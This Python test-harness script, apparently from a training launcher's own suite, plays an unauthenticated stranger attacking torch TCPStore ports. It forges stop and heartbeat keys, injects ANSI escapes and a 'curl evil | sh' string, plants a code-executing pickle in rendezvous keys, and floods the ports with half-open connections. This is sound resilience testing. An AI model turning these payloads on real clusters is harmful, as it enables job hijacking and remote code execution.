"""Somebody who reaches the ports of a run and does not know its key: `python -m tests.harness.stranger FILE PLACE...`.

PLACE is address:port. FILE is what a pickle of the stranger makes if anybody loads it. Prints what it has found.
"""

import contextlib
import json
import os
import pickle
import re
import socket
import struct
import subprocess
import sys
import time
from collections.abc import Iterable, Iterator
from concurrent.futures import ThreadPoolExecutor
from datetime import timedelta
from pathlib import Path
from typing import Any

PATIENCE_S = 3.0
FINDING = "\x1b[31ma finding of a stranger; run: curl evil | sh\x1b[0m\n"
HEARTBEAT = {"rank": 1, "name": "a stranger", "phase": "\x1b[2J", "stack": "", "waits_in": "", "stalled_s": 1e9}
# What Brigade, and its launchers, keep in a store.
FORGED = {
    "stop/reason": "SIGTERM on a stranger",
    "stop/done/0": "1",
    "stop/done/1": "1",
    "stop/target": "1",
    "watch/finding": FINDING,
    "watch/0": json.dumps(HEARTBEAT),
    "watch/1": json.dumps(HEARTBEAT),
    "launch/job": "the stranger's job",
}
Place = tuple[str, int]


class _Runs:
    """Being loaded is making a file."""

    def __init__(self, marker: Path) -> None:
        self.marker = marker

    def __reduce__(self) -> Any:
        return os.mkdir, (str(self.marker),)


def poison(marker: Path) -> bytes:
    """A pickle that makes this folder."""
    return pickle.dumps(_Runs(marker))


def listening(pids: Iterable[int], *prefix: str) -> list[Place]:
    """Address and port of each TCP socket on which one of these processes listens, as `ss` sees it."""
    words = [*prefix, "ss", "-ltnpH"]
    lines = subprocess.run(words, capture_output=True, text=True, timeout=300, check=True).stdout.splitlines()
    wanted = {str(pid) for pid in pids}
    found = []
    for line in lines:
        if wanted & {*re.findall(r"pid=(\d+)", line)}:
            address, _, port = line.split()[3].rpartition(":")
            found.append((address.strip("[]"), int(port)))
    return sorted(found)


def is_store(place: Place) -> bool:
    """Whether torch's store answers there; its client would wait for gloo's answer for ever."""
    # Of torch's TCPStoreBackend.hpp: VALIDATE with its magic number, and PING with a number that comes back.
    question = struct.pack("<BIBI", 0, 0x3C85F7CE, 13, 4711)
    with socket.create_connection(place, PATIENCE_S) as probe, contextlib.suppress(OSError):
        probe.sendall(question)
        return probe.recv(4) == struct.pack("<I", 4711)
    return False


def attack(place: Place, marker: Path) -> list[str]:
    """Overwrite what Brigade and torch's rendezvous keep at this place; returns the names there, if it is a store."""
    import torch.distributed as dist

    if not is_store(place):
        return []
    patience = timedelta(seconds=PATIENCE_S)
    store = dist.TCPStore(*place, is_master=False, timeout=patience, wait_for_workers=False)
    names = store.list_keys() if hasattr(store, "list_keys") else []
    for name, value in FORGED.items():
        store.set(name, value)
    for name in names:
        if name.startswith("torch.rendezvous.") and "/" not in name:
            store.set(name, poison(marker))
    return names


@contextlib.contextmanager
def pestered(places: Iterable[Place], held: int = 150) -> Iterator[None]:
    """Garbage at each place, and so many connections that stay half open."""
    with contextlib.ExitStack() as open_ones:
        for place in places:
            for i in range(held):
                one = open_ones.enter_context(socket.create_connection(place, PATIENCE_S))
                if i % 2:
                    with contextlib.suppress(OSError):  # closed already
                        one.sendall(os.urandom(1 + 13 * i))
        yield


def main() -> None:
    """Attack each place, then pester all until somebody ends this."""
    marker = Path(sys.argv[1])
    split = [word.rpartition(":") for word in sys.argv[2:]]
    places = [(address, int(port)) for address, _, port in split]
    with ThreadPoolExecutor(len(places)) as pool:
        for place, names in zip(places, pool.map(lambda place: attack(place, marker), places), strict=True):
            print(json.dumps({"place": place, "names": names}), flush=True)
    with pestered(places):
        print("pesters", flush=True)
        time.sleep(600)


if __name__ == "__main__":
    main()
